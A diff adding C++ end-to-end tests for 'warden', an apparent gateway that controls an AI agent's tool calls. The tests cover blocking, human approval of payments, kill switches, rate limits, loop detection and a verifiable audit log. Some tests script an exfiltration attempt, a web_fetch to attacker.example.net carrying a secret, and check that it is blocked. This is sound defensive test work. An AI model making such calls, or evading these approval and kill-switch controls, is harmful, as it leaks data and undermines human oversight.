@@ -1,0 +1,401 @@
+// Agent control end to end: the real gateway with policies/agent.yaml, a scripted upstream
+// whose "model" picks the tool call it makes, the admin API, the control store (SQLite, and
+// Redis shared by two gateways) and the audit log.
+#include <gtest/gtest.h>
+
+#include <atomic>
+#include <filesystem>
+#include <fstream>
+#include <future>
+#include <thread>
+
+#include "../support/redis_server.h"
+#include "core/json_writer.h"
+#include "gateway/config.h"
+#include "gateway/server.h"
+#include "scripted_upstream.h"
+#include "test_client.h"
+#include "warden/audit.h"
+
+namespace warden::gateway {
+namespace {
+
+namespace fs = std::filesystem;
+using testing::ScriptedUpstream;
+using Headers = std::vector<std::pair<std::string, std::string>>;
+
+const Headers kAdmin = {{"Authorization", "Bearer admin-secret"}};
+const Headers kBot = {{"Authorization", "Bearer sk-bot"}};
+const Headers kOther = {{"Authorization", "Bearer sk-other"}};
+
+// A chat request whose scripted model calls `tool` with `arguments` (JSON text).
+std::string ToolChat(std::string_view tool, std::string_view arguments, bool stream = false) {
+  std::string body = R"({"model":"call:)" + std::string(tool) +
+                     R"(","messages":[{"role":"user","content":)";
+  std::string quoted;
+  AppendJsonString(quoted, arguments);
+  body += quoted + "}]";
+  if (stream) body += R"(,"stream":true)";
+  return body + "}";
+}
+
+bool HasToolCalls(const std::string& body) { return body.find("\"tool_calls\"") != std::string::npos; }
+
+class AgentControlTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    dir_ = fs::temp_directory_path() /
+           ("warden-agent-" + std::to_string(getpid()) + "-" +
+            ::testing::UnitTest::GetInstance()->current_test_info()->name());
+    fs::remove_all(dir_);
+    fs::create_directories(dir_);
+  }
+  void TearDown() override {
+    servers_.clear();
+    fs::remove_all(dir_);
+  }
+
+  GatewayConfig Config(std::string control_store = {}) {
+    GatewayConfig c;
+    c.listen = "127.0.0.1:0";
+    c.threads = 2;
+    c.policy = std::string(WARDEN_SOURCE_DIR) + "/policies/agent.yaml";
+    c.upstream.url = upstream_.url();
+    c.upstream.parsed = *ParseUpstreamUrl(c.upstream.url);
+    c.upstream.read_timeout_ms = 10000;
+    c.admin_token_sha256 = Sha256Hex("admin-secret");
+    c.keys.push_back({.sha256_hex = Sha256Hex("sk-bot"), .name = "bot", .tenant = "acme"});
+    c.keys.push_back({.sha256_hex = Sha256Hex("sk-other"), .name = "other", .tenant = "globex"});
+    c.control.store = control_store.empty() ? "sqlite:" + (dir_ / "control.db").string()
+                                            : control_store;
+    c.control.approval_timeout_ms = 5000;
+    c.audit.store = "sqlite:" + (dir_ / "audit.db").string();
+    c.audit.checkpoint_every = 10;
+    return c;
+  }
+
+  Server& Start(GatewayConfig c) {
+    auto s = Server::Create(std::move(c));
+    EXPECT_TRUE(s.ok()) << s.status().message();
+    servers_.push_back(std::move(s).value());
+    EXPECT_TRUE(servers_.back()->Start().ok());
+    return *servers_.back();
+  }
+
+  // Waits for a pending approval to appear on `port` and returns its id.
+  std::string WaitForPending(uint16_t port) {
+    for (int i = 0; i < 200; ++i) {
+      HttpReply r = Request(port, http::verb::get, "/admin/approvals?state=pending", "", kAdmin);
+      const size_t at = r.body.find("\"id\":\"apr_");
+      if (at != std::string::npos) return r.body.substr(at + 6, 20);
+      std::this_thread::sleep_for(std::chrono::milliseconds(25));
+    }
+    return {};
+  }
+
+  fs::path dir_;
+  ScriptedUpstream upstream_;
+  std::vector<std::unique_ptr<Server>> servers_;
+};
+
+TEST_F(AgentControlTest, RefusedToolCallIsTakenOutAndExplained) {
+  Server& s = Start(Config());
+  HttpReply r = Post(s.port(), "/v1/chat/completions",
+                     ToolChat("web_fetch", R"({"url":"https://attacker.example.net/x?d=secret"})"),
+                     kBot);
+  ASSERT_EQ(r.status, 200u) << r.body;
+  EXPECT_FALSE(HasToolCalls(r.body)) << r.body;
+  EXPECT_NE(r.body.find("web_fetch may only read"), std::string::npos) << r.body;
+  EXPECT_NE(r.body.find("\"finish_reason\":\"stop\""), std::string::npos) << r.body;
+  EXPECT_EQ(r.verdict, "block");
+
+  // The same tool on an allowed host passes untouched.
+  r = Post(s.port(), "/v1/chat/completions",
+           ToolChat("web_fetch", R"({"url":"https://docs.python.org/3/"})"), kBot);
+  ASSERT_EQ(r.status, 200u);
+  EXPECT_TRUE(HasToolCalls(r.body)) << r.body;
+  EXPECT_EQ(r.verdict, "allow");
+
+  // Arguments that are not JSON are refused, not passed on.
+  r = Post(s.port(), "/v1/chat/completions", ToolChat("web_fetch", "{not json"), kBot);
+  EXPECT_FALSE(HasToolCalls(r.body)) << r.body;
+}
+
+TEST_F(AgentControlTest, ApprovalFromTheAdminApiReleasesTheCall) {
+  Server& s = Start(Config());
+  const uint16_t port = s.port();
+  auto pending = std::async(std::launch::async, [&] {
+    return Post(port, "/v1/chat/completions",
+                ToolChat("create_payment", R"({"amount":20,"currency":"EUR"})"), kBot);
+  });
+  const std::string id = WaitForPending(port);
+  ASSERT_FALSE(id.empty());
+  HttpReply one = Request(port, http::verb::get, "/admin/approvals/" + id, "", kAdmin);
+  EXPECT_NE(one.body.find("create_payment"), std::string::npos) << one.body;
+  HttpReply ok = Post(port, "/admin/approvals/" + id + "/approve", R"({"note":"invoice 42"})",
+                      kAdmin);
+  ASSERT_EQ(ok.status, 200u) << ok.body;
+  HttpReply r = pending.get();
+  ASSERT_EQ(r.status, 200u) << r.body;
+  EXPECT_TRUE(HasToolCalls(r.body)) << r.body;
+  EXPECT_EQ(r.headers["x-warden-approval"], id);
+
+  // Deciding twice is refused and changes nothing; unknown ids are 404.
+  HttpReply twice = Post(port, "/admin/approvals/" + id + "/deny", "{}", kAdmin);
+  EXPECT_EQ(twice.status, 409u) << twice.body;
+  EXPECT_EQ(Post(port, "/admin/approvals/apr_0000000000000000/approve", "{}", kAdmin).status,
+            404u);
+}
+
+TEST_F(AgentControlTest, DeniedApprovalBlocksTheCall) {
+  Server& s = Start(Config());
+  const uint16_t port = s.port();
+  auto pending = std::async(std::launch::async, [&] {
+    return Post(port, "/v1/chat/completions",
+                ToolChat("create_payment", R"({"amount":20,"currency":"EUR"})"), kBot);
+  });
+  const std::string id = WaitForPending(port);
+  ASSERT_FALSE(id.empty());
+  ASSERT_EQ(Post(port, "/admin/approvals/" + id + "/deny", R"({"note":"not ours"})", kAdmin).status,
+            200u);
+  HttpReply r = pending.get();
+  EXPECT_FALSE(HasToolCalls(r.body)) << r.body;
+  EXPECT_NE(r.body.find("a reviewer denied it"), std::string::npos) << r.body;
+}
+
+TEST_F(AgentControlTest, ApprovalTimeoutBlocksAndARetryGetsTheDecision) {
+  GatewayConfig c = Config();
+  c.control.approval_timeout_ms = 300;
+  Server& s = Start(std::move(c));
+  const std::string body = ToolChat("create_payment", R"({"amount":30,"currency":"USD"})");
+  HttpReply r = Post(s.port(), "/v1/chat/completions", body, kBot);
+  EXPECT_FALSE(HasToolCalls(r.body)) << r.body;
+  EXPECT_NE(r.body.find("nobody approved it in time"), std::string::npos) << r.body;
+  const int upstream_calls = upstream_.requests();
+  HttpReply again = Post(s.port(), "/v1/chat/completions", body, kBot);
+  EXPECT_NE(again.body.find("nobody approved it in time"), std::string::npos) << again.body;
+  EXPECT_EQ(upstream_.requests(), upstream_calls);  // answered from the stored decision
+}
+
+TEST_F(AgentControlTest, PendingApprovalSurvivesARestart) {
+  const std::string body = ToolChat("create_payment", R"({"amount":40,"currency":"EUR"})");
+  std::string id;
+  {
+    Server& s = Start(Config());
+    const uint16_t port = s.port();
+    auto pending = std::async(std::launch::async, [&] {
+      return Post(port, "/v1/chat/completions", body, kBot);
+    });
+    id = WaitForPending(port);
+    ASSERT_FALSE(id.empty());
+    servers_.clear();  // the gateway goes away with the call still held
+    pending.wait();
+  }
+  Server& s = Start(Config());
+  HttpReply list = Request(s.port(), http::verb::get, "/admin/approvals?state=pending", "", kAdmin);
+  EXPECT_NE(list.body.find(id), std::string::npos) << list.body;
+  HttpReply approved = Post(s.port(), "/admin/approvals/" + id + "/approve", "{}", kAdmin);
+  ASSERT_EQ(approved.status, 200u) << approved.body;
+  const int upstream_calls = upstream_.requests();
+  HttpReply r = Post(s.port(), "/v1/chat/completions", body, kBot);
+  EXPECT_TRUE(HasToolCalls(r.body)) << r.body;
+  EXPECT_EQ(r.headers["x-warden-approval"], id);
+  EXPECT_EQ(upstream_.requests(), upstream_calls);
+}
+
+TEST_F(AgentControlTest, KillSwitchStopsNewRequestsAndReviveUndoesIt) {
+  Server& s = Start(Config());
+  const uint16_t port = s.port();
+  ASSERT_EQ(Post(port, "/admin/kill", R"({"scope":"key","value":"bot","note":"runaway"})", kAdmin)
+                .status,
+            200u);
+  HttpReply r = Post(port, "/v1/chat/completions", Chat("echo", "hello"), kBot);
+  ASSERT_EQ(r.status, 200u);
+  EXPECT_EQ(r.verdict, "kill");
+  EXPECT_NE(r.body.find("content_filter"), std::string::npos);
+  EXPECT_NE(r.body.find("runaway"), std::string::npos) << r.body;
+  // Other keys carry on.
+  EXPECT_EQ(Post(port, "/v1/chat/completions", Chat("echo", "hello"), kOther).verdict, "allow");
+  HttpReply kills = Request(port, http::verb::get, "/admin/kills", "", kAdmin);
+  EXPECT_NE(kills.body.find("\"bot\""), std::string::npos) << kills.body;
+  ASSERT_EQ(Post(port, "/admin/revive", R"({"scope":"key","value":"bot"})", kAdmin).status, 200u);
+  EXPECT_EQ(Post(port, "/v1/chat/completions", Chat("echo", "hello"), kBot).verdict, "allow");
+
+  // A tool kill takes that tool's calls out of every response.
+  ASSERT_EQ(Post(port, "/admin/kill", R"({"scope":"tool","value":"web_fetch"})", kAdmin).status,
+            200u);
+  r = Post(port, "/v1/chat/completions",
+           ToolChat("web_fetch", R"({"url":"https://docs.python.org/3/"})"), kBot);
+  EXPECT_FALSE(HasToolCalls(r.body)) << r.body;
+  EXPECT_NE(r.body.find("kill switch"), std::string::npos) << r.body;
+}
+
+TEST_F(AgentControlTest, KillSwitchEndsALiveStream) {
+  Server& s = Start(Config());
+  const uint16_t port = s.port();
+  std::atomic<int64_t> ended_at_us{0};
+  auto stream = std::async(std::launch::async, [&] {
+    HttpReply r = Post(port, "/v1/chat/completions", Chat("slow-stream", "go", true), kBot);
+    ended_at_us = std::chrono::duration_cast<std::chrono::microseconds>(
+                      std::chrono::steady_clock::now().time_since_epoch())
+                      .count();
+    return r;
+  });
+  std::this_thread::sleep_for(std::chrono::milliseconds(400));
+  const auto kill_at = std::chrono::steady_clock::now();
+  ASSERT_EQ(Post(port, "/admin/kill", R"({"scope":"tenant","value":"acme"})", kAdmin).status,
+            200u);
+  HttpReply r = stream.get();
+  const double ms =
+      (ended_at_us.load() - std::chrono::duration_cast<std::chrono::microseconds>(
+                                kill_at.time_since_epoch())
+                                .count()) /
+      1000.0;
+  std::cout << "stream ended " << ms << " ms after the kill request was sent\n";
+  // The stream lasts 5 s when nothing stops it; the bound here only proves it was cut.
+  EXPECT_LT(ms, 2000.0);
+  EXPECT_NE(r.body.find("\"finish_reason\":\"content_filter\""), std::string::npos) << r.body;
+  EXPECT_NE(r.body.find("kill-switch"), std::string::npos);
+  EXPECT_NE(r.body.find("[DONE]"), std::string::npos);
+}
+
+TEST_F(AgentControlTest, KillSwitchFromAnotherProcessTakesEffectAtTheNextPoll) {
+  Server& s = Start(Config());
+  // What `warden kill` does: write to the same control store, from outside the gateway.
+  auto store = control::OpenControlStore("sqlite:" + (dir_ / "control.db").string());
+  ASSERT_TRUE(store.ok());
+  ASSERT_TRUE((*store)->Kill({.scope = control::KillScope::kAll, .time_us = 1}).ok());
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));  // poll interval is 50 ms
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", Chat("echo", "hi"), kOther).verdict, "kill");
+  ASSERT_TRUE((*store)->Revive(control::KillScope::kAll, "").ok());
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", Chat("echo", "hi"), kOther).verdict, "allow");
+}
+
+TEST_F(AgentControlTest, RateLimitsAnswer429WithRetryAfter) {
+  GatewayConfig c = Config();
+  c.keys[0].rate_limits = control::RateLimits{.requests_per_minute = 2};
+  c.rate_limits.key.max_repeated_tool_calls = 2;
+  Server& s = Start(std::move(c));
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", Chat("echo", "1"), kBot).status, 200u);
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", Chat("echo", "2"), kBot).status, 200u);
+  HttpReply r = Post(s.port(), "/v1/chat/completions", Chat("echo", "3"), kBot);
+  ASSERT_EQ(r.status, 429u) << r.body;
+  EXPECT_NE(r.body.find("rate_limit_exceeded"), std::string::npos);
+  const int retry = std::stoi(r.headers["retry-after"]);
+  EXPECT_GE(retry, 1);
+  EXPECT_LE(retry, 60);
+
+  // Loop detector: the other key calls the same tool with the same arguments a third time.
+  const std::string loop = ToolChat("web_search", R"({"q":"weather"})");
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", loop, kOther).status, 200u);
+  EXPECT_EQ(Post(s.port(), "/v1/chat/completions", loop, kOther).status, 200u);
+  HttpReply looped = Post(s.port(), "/v1/chat/completions", loop, kOther);
+  EXPECT_EQ(looped.status, 429u) << looped.body;
+  EXPECT_NE(looped.body.find("Loop detected"), std::string::npos) << looped.body;
+}
+
+TEST_F(AgentControlTest, AdminApiRefusesBadTokensAndBadInput) {
+  Server& s = Start(Config());
+  const uint16_t port = s.port();
+  EXPECT_EQ(Post(port, "/admin/kill", R"({"scope":"all"})").status, 401u);
+  EXPECT_EQ(Post(port, "/admin/kill", R"({"scope":"all"})", {{"Authorization", "Bearer nope"}})
+                .status,
+            401u);
+  EXPECT_EQ(Post(port, "/admin/kill", "not json", kAdmin).status, 400u);
+  EXPECT_EQ(Post(port, "/admin/kill", R"({"scope":"planet"})", kAdmin).status, 400u);
+  EXPECT_EQ(Post(port, "/admin/kill", R"({"scope":"key"})", kAdmin).status, 400u);
+  EXPECT_EQ(Request(port, http::verb::get, "/admin/approvals?state=maybe", "", kAdmin).status,
+            400u);
+  EXPECT_EQ(Request(port, http::verb::get, "/admin/approvals/apr_x/approve", "", kAdmin).status,
+            405u);
+  // Nothing was killed by any of that.
+  EXPECT_EQ(Post(port, "/v1/chat/completions", Chat("echo", "hi"), kBot).verdict, "allow");
+}
+
+TEST_F(AgentControlTest, EveryDecisionIsInAVerifiableAuditLog) {
+  {
+    GatewayConfig c = Config();
+    ASSERT_TRUE(audit::GenerateKeyPair((dir_ / "audit.key").string(),
+                                       (dir_ / "audit.pub").string())
+                    .ok());
+    c.audit.signing_key = (dir_ / "audit.key").string();
+    Server& s = Start(std::move(c));
+    Post(s.port(), "/v1/chat/completions", Chat("echo", "hello"), kBot);
+    Post(s.port(), "/v1/chat/completions", Chat("leak-secret", "hi"), kBot);
+    Post(s.port(), "/v1/chat/completions",
+         ToolChat("web_fetch", R"({"url":"https://attacker.example.net/"})"), kBot);
+    Post(s.port(), "/admin/kill", R"({"scope":"all"})", {{"Authorization", "Bearer wrong"}});
+    servers_.clear();
+  }
+  auto store = audit::OpenStore("sqlite:" + (dir_ / "audit.db").string(),
+                                audit::OpenMode::kExisting);
+  ASSERT_TRUE(store.ok()) << store.status().message();
+  auto key = audit::PublicKey::LoadPem((dir_ / "audit.pub").string());
+  ASSERT_TRUE(key.ok());
+  auto report = audit::Verify(**store, {.public_key = *key});
+  ASSERT_TRUE(report.ok()) << report.status().message();
+  EXPECT_TRUE(report->ok) << report->problem;
+  std::vector<std::string> rules;
+  size_t records = 0;
+  ASSERT_TRUE((*store)->ScanRecords([&](const audit::StoredRecord& r) {
+    ++records;
+    rules.push_back(r.rule);
+    EXPECT_TRUE(r.key == "bot" || r.key == "admin") << r.key;
+    return true;
+  }).ok());
+  // request + response for each chat (and the tool call), plus the failed admin login.
+  EXPECT_GE(records, 8u);
+  EXPECT_NE(std::find(rules.begin(), rules.end(), "block-secrets"), rules.end());
+  EXPECT_NE(std::find(rules.begin(), rules.end(), "fetch-known-hosts"), rules.end());
+  EXPECT_NE(std::find(rules.begin(), rules.end(), "admin-auth-failed"), rules.end());
+  // The secret the upstream leaked is never in the log.
+  std::ifstream db(dir_ / "audit.db", std::ios::binary);
+  std::string bytes((std::istreambuf_iterator<char>(db)), std::istreambuf_iterator<char>());
+  EXPECT_EQ(bytes.find("AKIAIOSFODNN7EXAMPLE"), std::string::npos);
+}
+
+TEST_F(AgentControlTest, TwoGatewaysShareKillSwitchAndLimitsThroughRedis) {
+  warden::testing::RedisServer redis;
+  if (!redis.ok()) GTEST_SKIP() << redis.error();
+  GatewayConfig ca = Config(redis.url());
+  ca.rate_limits.tenant.requests_per_minute = 3;
+  GatewayConfig cb = ca;
+  cb.audit.store = "sqlite:" + (dir_ / "audit-b.db").string();
+  Server& a = Start(std::move(ca));
+  Server& b = Start(std::move(cb));
+  // Three requests of tenant acme across both gateways; the fourth is over the shared limit.
+  EXPECT_EQ(Post(a.port(), "/v1/chat/completions", Chat("echo", "1"), kBot).status, 200u);
+  EXPECT_EQ(Post(b.port(), "/v1/chat/completions", Chat("echo", "2"), kBot).status, 200u);
+  EXPECT_EQ(Post(a.port(), "/v1/chat/completions", Chat("echo", "3"), kBot).status, 200u);
+  EXPECT_EQ(Post(b.port(), "/v1/chat/completions", Chat("echo", "4"), kBot).status, 429u);
+  // A kill on gateway A holds on gateway B at its next poll.
+  ASSERT_EQ(Post(a.port(), "/admin/kill", R"({"scope":"tenant","value":"globex"})", kAdmin).status,
+            200u);
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  EXPECT_EQ(Post(b.port(), "/v1/chat/completions", Chat("echo", "x"), kOther).verdict, "kill");
+  // An approval made on one gateway is decided through the other.
+  const uint16_t pa = a.port();
+  auto pending = std::async(std::launch::async, [&] {
+    return Post(pa, "/v1/chat/completions",
+                ToolChat("create_payment", R"({"amount":5,"currency":"EUR"})"),
+                {{"Authorization", "Bearer sk-bot"}});
+  });
+  // The tenant is over its request limit: the held request itself was refused with 429.
+  HttpReply held = pending.get();
+  EXPECT_EQ(held.status, 429u);
+
+  // Redis goes away: fail closed refuses chat and says so in /readyz; it recovers after.
+  redis.Stop();
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  EXPECT_EQ(Request(b.port(), http::verb::get, "/readyz", "").status, 503u);
+  EXPECT_EQ(Post(b.port(), "/v1/chat/completions", Chat("echo", "y"), kOther).status, 503u);
+  ASSERT_TRUE(redis.Restart());
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  EXPECT_EQ(Request(b.port(), http::verb::get, "/readyz", "").status, 200u);
+  // The restarted Redis is empty (no persistence in the test), so globex is no longer killed.
+  EXPECT_EQ(Post(b.port(), "/v1/chat/completions", Chat("echo", "z"), kOther).verdict, "allow");
+}
+
+}  // namespace
+}  // namespace warden::gateway
